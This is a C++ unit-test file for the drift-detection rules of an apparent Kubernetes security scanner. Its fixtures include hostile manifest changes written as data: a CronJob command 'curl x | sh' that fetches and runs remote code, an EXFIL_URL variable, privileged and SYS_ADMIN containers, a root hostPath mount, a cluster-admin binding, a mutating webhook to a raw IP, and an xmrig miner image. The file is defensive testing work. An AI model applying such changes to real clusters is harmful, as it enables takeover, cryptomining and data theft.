// One test (or a few) per DRIFT rule and per matching decision.
#include <fmt/format.h>
#include <gtest/gtest.h>

#include "drift/drift_test_util.h"
#include "engine/config.h"
#include "support/test_support.h"

namespace kg::testing {
namespace {

std::string deployment(std::string_view container_extra, std::string_view pod_extra = "",
                       std::string_view metadata_extra = "") {
  return fmt::format(R"(apiVersion: apps/v1
kind: Deployment
metadata:
  name: api
  namespace: shop
{}spec:
  selector:
    matchLabels: {{app: api}}
  template:
    metadata:
      labels: {{app: api}}
    spec:
{}      containers:
        - name: api
          image: registry.example.com/shop/api:1.4.0
{})",
                     metadata_extra, pod_extra, container_extra);
}

TEST(DriftSecurityContext, PrivilegedAndAddedCapabilitiesAreHigh) {
  std::string base = deployment("          securityContext:\n            capabilities: {drop: [ALL]}\n");
  std::string live = deployment(
      "          securityContext:\n            privileged: true\n            capabilities: {add: [SYS_ADMIN]}\n");
  auto result = diff_texts(base, live);
  auto found = of_rule(result, "KG-DRIFT-005");
  ASSERT_EQ(found.size(), 1u) << dump(result);
  EXPECT_EQ(found[0].severity, rules::Severity::High);
  EXPECT_EQ(found[0].path, "spec.template.spec.containers[0].securityContext");
  EXPECT_NE(found[0].message.find("privileged: (unset) -> true"), std::string::npos) << found[0].message;
  EXPECT_NE(found[0].message.find("capabilities.add: +SYS_ADMIN"), std::string::npos) << found[0].message;
  EXPECT_NE(found[0].message.find("capabilities.drop: -ALL"), std::string::npos) << found[0].message;
}

TEST(DriftSecurityContext, DefaultsWrittenOutAreNoChange) {
  std::string base = deployment("");
  std::string live = deployment(
      "          securityContext:\n            privileged: false\n            allowPrivilegeEscalation: true\n",
      "      securityContext: {}\n      hostNetwork: false\n      serviceAccountName: default\n");
  auto result = diff_texts(base, live);
  EXPECT_TRUE(result.findings.empty()) << dump(result);
}

TEST(DriftSecurityContext, TighterSettingIsLowAndLooserPodIsHigh) {
  std::string base = deployment("");
  std::string tighter = deployment("          securityContext: {readOnlyRootFilesystem: true}\n");
  auto low = of_rule(diff_texts(base, tighter), "KG-DRIFT-005");
  ASSERT_EQ(low.size(), 1u);
  EXPECT_EQ(low[0].severity, rules::Severity::Low);

  std::string looser = deployment("", "      hostPID: true\n      securityContext: {runAsUser: 0}\n");
  auto high = of_rule(diff_texts(base, looser), "KG-DRIFT-005");
  ASSERT_EQ(high.size(), 1u);
  EXPECT_EQ(high[0].severity, rules::Severity::High);
  EXPECT_EQ(high[0].container, "");
  EXPECT_NE(high[0].message.find("hostPID: (unset) -> true"), std::string::npos) << high[0].message;
  EXPECT_NE(high[0].message.find("securityContext.runAsUser: (unset) -> 0"), std::string::npos) << high[0].message;
}

TEST(DriftSecurityContext, AnotherServiceAccountIsMedium) {
  auto found = of_rule(diff_texts(deployment("", "      serviceAccountName: api\n"),
                                  deployment("", "      serviceAccountName: deployer\n")),
                       "KG-DRIFT-005");
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].severity, rules::Severity::Medium);
  EXPECT_NE(found[0].message.find("serviceAccountName: api -> deployer"), std::string::npos);
}

TEST(DriftEnv, ValuesAreNeverShown) {
  std::string base = deployment(
      "          env:\n            - {name: DB_PASSWORD, value: hunter2-old}\n            - {name: MODE, value: "
      "prod}\n");
  std::string live = deployment(
      "          env:\n            - {name: DB_PASSWORD, value: hunter2-new}\n            - {name: EXFIL_URL, value: "
      "https://x.example}\n          envFrom:\n            - secretRef: {name: admin-creds}\n");
  auto result = diff_texts(base, live);
  auto found = of_rule(result, "KG-DRIFT-007");
  ASSERT_EQ(found.size(), 1u) << dump(result);
  const std::string& m = found[0].message;
  EXPECT_EQ(found[0].severity, rules::Severity::Medium);
  EXPECT_NE(m.find("env added EXFIL_URL"), std::string::npos) << m;
  EXPECT_NE(m.find("env removed MODE"), std::string::npos) << m;
  EXPECT_NE(m.find("env value changed DB_PASSWORD"), std::string::npos) << m;
  EXPECT_NE(m.find("envFrom added secretRef admin-creds"), std::string::npos) << m;
  for (auto secret : {"hunter2", "x.example", "prod"}) EXPECT_EQ(m.find(secret), std::string::npos) << m;
}

TEST(DriftEnv, DefaultedFieldRefVersionIsNoChange) {
  std::string base = deployment(
      "          env:\n            - name: NODE\n              valueFrom: {fieldRef: {fieldPath: spec.nodeName}}\n");
  std::string live = deployment(
      "          env:\n            - name: NODE\n              valueFrom: {fieldRef: {apiVersion: v1, fieldPath: "
      "spec.nodeName}}\n");
  EXPECT_TRUE(diff_texts(base, live).findings.empty());
}

TEST(DriftVolumes, HostPathVolumeAndMountAreHigh) {
  std::string base = deployment("");
  std::string live = deployment("          volumeMounts:\n            - {name: host, mountPath: /host}\n",
                                "      volumes:\n        - name: host\n          hostPath: {path: /, type: \"\"}\n");
  auto result = diff_texts(base, live);
  auto found = of_rule(result, "KG-DRIFT-007");
  ASSERT_EQ(found.size(), 2u) << dump(result);
  for (const auto& f : found) EXPECT_EQ(f.severity, rules::Severity::High) << f.message;
  EXPECT_NE(dump(result).find("volume 'host' added: hostPath /"), std::string::npos) << dump(result);
  EXPECT_NE(dump(result).find("added /host (volume host)"), std::string::npos) << dump(result);
}

TEST(DriftVolumes, ChangedSourceAndDefaultModeWrittenInOctal) {
  std::string base =
      deployment("", "      volumes:\n        - name: cfg\n          configMap: {name: api, defaultMode: 0644}\n");
  std::string same =
      deployment("", "      volumes:\n        - name: cfg\n          configMap: {name: api, defaultMode: 420}\n");
  EXPECT_TRUE(diff_texts(base, same).findings.empty()) << dump(diff_texts(base, same));
  std::string other =
      deployment("", "      volumes:\n        - name: cfg\n          secret: {secretName: api-admin}\n");
  auto found = of_rule(diff_texts(base, other), "KG-DRIFT-007");
  ASSERT_EQ(found.size(), 1u);
  EXPECT_NE(found[0].message.find("configMap api -> secret api-admin"), std::string::npos) << found[0].message;
}

TEST(DriftContainers, RemovedContainerIsLow) {
  std::string base = deployment("        - name: policy-agent\n          image: openpolicyagent/opa:0.65.0\n");
  auto result = diff_texts(base, deployment(""));
  auto found = of_rule(result, "KG-DRIFT-006");
  ASSERT_EQ(found.size(), 1u) << dump(result);
  EXPECT_EQ(found[0].severity, rules::Severity::Low);
  EXPECT_EQ(found[0].container, "policy-agent");
  EXPECT_EQ(found[0].path, "spec.template.spec.containers");
}

TEST(DriftContainers, AddedInitContainerIsCritical) {
  std::string live = deployment("", "      initContainers:\n        - name: setup\n          image: alpine:3.20\n");
  auto found = of_rule(diff_texts(deployment(""), live), "KG-DRIFT-001");
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].severity, rules::Severity::Critical);
  EXPECT_NE(found[0].message.find("init container 'setup'"), std::string::npos);
}

constexpr std::string_view kWebhook = R"(apiVersion: admissionregistration.k8s.io/v1
kind: MutatingWebhookConfiguration
metadata:
  name: pod-ready-defaults
webhooks:
  - name: defaults.pod-ready.io
    clientConfig: {url: "https://203.0.113.7/mutate"}
    rules: [{operations: [CREATE], apiGroups: [""], apiVersions: [v1], resources: [pods]}]
    failurePolicy: Ignore
    sideEffects: None
    admissionReviewVersions: [v1]
)";

TEST(DriftOnlyInLive, WebhookAndClusterAdminBindingAreMedium) {
  std::string live = deployment("") + "---\n" + std::string(kWebhook) + R"(---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: backup-operator}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
subjects: [{kind: ServiceAccount, name: api, namespace: shop}]
---
apiVersion: v1
kind: ConfigMap
metadata: {name: leftovers, namespace: shop}
)";
  auto result = diff_texts(deployment(""), live);
  auto found = of_rule(result, "KG-DRIFT-008");
  ASSERT_EQ(found.size(), 3u) << dump(result);
  EXPECT_EQ(found[0].object.kind, "MutatingWebhookConfiguration");
  EXPECT_EQ(found[0].severity, rules::Severity::Medium);
  EXPECT_NE(found[0].message.find("webhooks defaults.pod-ready.io"), std::string::npos) << found[0].message;
  EXPECT_EQ(found[1].severity, rules::Severity::Medium);
  EXPECT_NE(found[1].message.find("grants ClusterRole cluster-admin"), std::string::npos) << found[1].message;
  EXPECT_EQ(found[2].severity, rules::Severity::Info);
  EXPECT_EQ(found[2].path, "metadata");
}

TEST(DriftOnlyInLive, GeneratedObjectsAndOtherNamespacesAreQuiet) {
  std::string live = deployment("") + R"(---
apiVersion: v1
kind: ConfigMap
metadata: {name: kube-root-ca.crt, namespace: shop}
---
apiVersion: v1
kind: ServiceAccount
metadata: {name: default, namespace: shop}
---
apiVersion: discovery.k8s.io/v1
kind: EndpointSlice
metadata:
  name: api-x7k2p
  namespace: shop
  ownerReferences: [{apiVersion: v1, kind: Service, name: api, controller: true, uid: "1"}]
---
apiVersion: v1
kind: Event
metadata: {name: api.17f, namespace: shop}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: system:aggregate-to-view
  labels: {kubernetes.io/bootstrapping: rbac-defaults}
---
apiVersion: v1
kind: Pod
metadata: {name: coredns-1, namespace: kube-system}
spec:
  containers: [{name: coredns, image: registry.k8s.io/coredns/coredns:v1.11.1}]
)";
  auto result = diff_texts(deployment(""), live);
  EXPECT_TRUE(result.findings.empty()) << dump(result);
}

TEST(DriftMatching, VersionDoesNotMatterButGroupDoes) {
  std::string base = deployment("");
  std::string live = deployment("");
  base.replace(0, base.find('\n'), "apiVersion: extensions/v1beta1");
  live.replace(live.find("registry.example.com/shop/api:1.4.0"), 35, "registry.example.com/shop/api:9.9.9");
  EXPECT_EQ(of_rule(diff_texts(base, live), "KG-DRIFT-002").size(), 1u);
}

TEST(DriftMatching, ManifestWithoutNamespaceIsInTheDefaultOrGivenNamespace) {
  std::string base = deployment("");
  base.erase(base.find("  namespace: shop\n"), 18);
  std::string live = deployment("", "      hostNetwork: true\n");
  // Manifest in "default", live in "shop": nothing matches, the live object is out of scope.
  auto unmatched = diff_texts(base, live);
  EXPECT_TRUE(unmatched.findings.empty()) << dump(unmatched);
  EXPECT_NE(dump(unmatched).find("no live object matched"), std::string::npos) << dump(unmatched);
  auto matched = diff_texts(base, live, {}, "shop");
  EXPECT_EQ(of_rule(matched, "KG-DRIFT-005").size(), 1u) << dump(matched);
}

TEST(DriftMatching, OlderReplicaSetRevisionIsNotComparedWithTheNewTemplate) {
  std::string live = deployment("", "", "  annotations: {deployment.kubernetes.io/revision: \"2\"}\n") + R"(---
apiVersion: apps/v1
kind: ReplicaSet
metadata:
  name: api-6d4cf56db6
  namespace: shop
  annotations: {deployment.kubernetes.io/revision: "1"}
  ownerReferences: [{apiVersion: apps/v1, kind: Deployment, name: api, controller: true, uid: "1"}]
spec:
  replicas: 0
  template:
    spec:
      containers: [{name: api, image: registry.example.com/shop/api:1.3.0}]
)";
  auto result = diff_texts(deployment(""), live);
  EXPECT_TRUE(result.findings.empty()) << dump(result);
  EXPECT_NE(dump(result).find("older revision of Deployment shop/api"), std::string::npos) << dump(result);
}

TEST(DriftSuppression, OnlyTheManifestsAnnotationSuppresses) {
  std::string annotated =
      deployment("", "", "  annotations: {kubeguard.io/ignore: KG-DRIFT-002, kubeguard.io/ignore-reason: canary}\n");
  std::string base = deployment("");
  std::string live = deployment("");
  live.replace(live.find("api:1.4.0"), 9, "api:1.5.0");
  std::string live_annotated = annotated;
  live_annotated.replace(live_annotated.find("api:1.4.0"), 9, "api:1.5.0");

  auto by_manifest = of_rule(diff_texts(annotated, live), "KG-DRIFT-002");
  ASSERT_EQ(by_manifest.size(), 1u);
  EXPECT_TRUE(by_manifest[0].suppressed);
  EXPECT_EQ(by_manifest[0].suppression, "annotation: canary");

  auto by_live = of_rule(diff_texts(base, live_annotated), "KG-DRIFT-002");
  ASSERT_EQ(by_live.size(), 1u);
  EXPECT_FALSE(by_live[0].suppressed);
}

TEST(DriftSuppression, DisabledRuleAndSeverityOverrideApply) {
  engine::Config config;
  config.disabled_rules.insert("KG-DRIFT-002");
  std::string live = deployment("");
  live.replace(live.find("api:1.4.0"), 9, "api:1.5.0");
  EXPECT_TRUE(diff_texts(deployment(""), live, config).findings.empty());
  engine::Config overridden;
  overridden.severity_overrides["KG-DRIFT-002"] = rules::Severity::Low;
  auto found = of_rule(diff_texts(deployment(""), live, overridden), "KG-DRIFT-002");
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].severity, rules::Severity::Low);
}

// A Job keeps the template its CronJob had when it ran: after the CronJob is
// edited, the old Job differs from the live CronJob but not from the manifest.
TEST(DriftMatching, JobMadeBeforeItsCronJobWasEditedIsQuiet) {
  constexpr std::string_view kCronJob = R"(apiVersion: batch/v1
kind: CronJob
metadata: {name: report, namespace: shop}
spec:
  schedule: "0 3 * * *"
  jobTemplate:
    spec:
      template:
        spec:
          containers: [{name: report, image: registry.example.com/report:1.0, command: [/report]}]
)";
  std::string edited(kCronJob);
  edited.replace(edited.find("[/report]"), 9, "[sh, -c, \"curl x | sh\"]");
  std::string live = edited + R"(---
apiVersion: batch/v1
kind: Job
metadata:
  name: report-28870980
  namespace: shop
  ownerReferences: [{apiVersion: batch/v1, kind: CronJob, name: report, controller: true, uid: "1"}]
spec:
  template:
    spec:
      containers: [{name: report, image: registry.example.com/report:1.0, command: [/report]}]
)";
  auto result = diff_texts(kCronJob, live);
  auto found = of_rule(result, "KG-DRIFT-003");
  ASSERT_EQ(found.size(), 1u) << dump(result);
  EXPECT_EQ(found[0].object.kind, "CronJob");

  // A Job made after the edit matches the live CronJob: only the CronJob is reported.
  std::string later = edited + R"(---
apiVersion: batch/v1
kind: Job
metadata:
  name: report-28872420
  namespace: shop
  ownerReferences: [{apiVersion: batch/v1, kind: CronJob, name: report, controller: true, uid: "1"}]
spec:
  template:
    spec:
      containers: [{name: report, image: registry.example.com/report:1.0, command: [sh, -c, "curl x | sh"]}]
)";
  auto again = of_rule(diff_texts(kCronJob, later), "KG-DRIFT-003");
  ASSERT_EQ(again.size(), 1u) << dump(diff_texts(kCronJob, later));
  EXPECT_EQ(again[0].object.kind, "CronJob");
}

TEST(DriftCatalog, RulesCarryMetadataAndNeverRunInAScan) {
  const auto& cat = catalog();
  size_t drift = 0;
  for (const auto& entry : cat.rules()) {
    if (entry.meta->family != "DRIFT") continue;
    ++drift;
    EXPECT_EQ(entry.scope, rules::RuleScope::Paired) << entry.meta->id;
    EXPECT_TRUE(entry.meta->id.starts_with("KG-DRIFT-")) << entry.meta->id;
    EXPECT_FALSE(entry.meta->rationale.empty()) << entry.meta->id;
    EXPECT_FALSE(entry.meta->remediation.empty()) << entry.meta->id;
    EXPECT_FALSE(entry.meta->references.empty()) << entry.meta->id;
    EXPECT_FALSE(entry.meta->kinds.empty()) << entry.meta->id;
  }
  EXPECT_EQ(drift, 8u);
  ASSERT_NE(cat.find("drift-container-added"), nullptr);
  std::string live = deployment("        - name: xmrig\n          image: docker.io/miner/xmrig:6.21\n");
  for (const auto& f : scan_text(live).findings) EXPECT_FALSE(f.rule_id.starts_with("KG-DRIFT")) << f.rule_id;
}

}  // namespace
}  // namespace kg::testing
